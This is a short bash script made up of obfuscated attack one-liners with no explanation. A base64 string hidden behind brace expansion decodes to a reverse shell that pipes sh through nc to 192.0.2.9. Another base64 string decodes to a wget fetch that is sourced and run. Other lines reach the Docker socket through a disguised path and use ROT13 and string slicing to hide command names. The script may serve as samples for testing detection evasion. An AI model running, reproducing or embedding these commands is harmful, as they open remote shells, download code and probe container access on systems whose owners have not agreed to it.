#!/usr/bin/env bash
c=abcdefghijklmnopqrstuvwxyz
${c:8:1}${c:3:1}
{echo,bWtmaWZvIC90bXAvLnA7IHNoIC1pIDwgL3RtcC8ucCAyPiYxIHwgbmMgMTkyLjAuMi45IDk5ID4gL3RtcC8ucA==}|{base64,-d}|{bash,-i}
p=/run/xocker.sock; curl --unix-socket "${p/x/d}" http://l/
x=$(tr 'a-z' 'n-za-m' <<< 'pheyuggc'); echo "$x" > /dev/shm/.n
source <(echo 'd2dldCBodHRwOi8vMTkyLjAuMi45L2s=' | base64 -d)
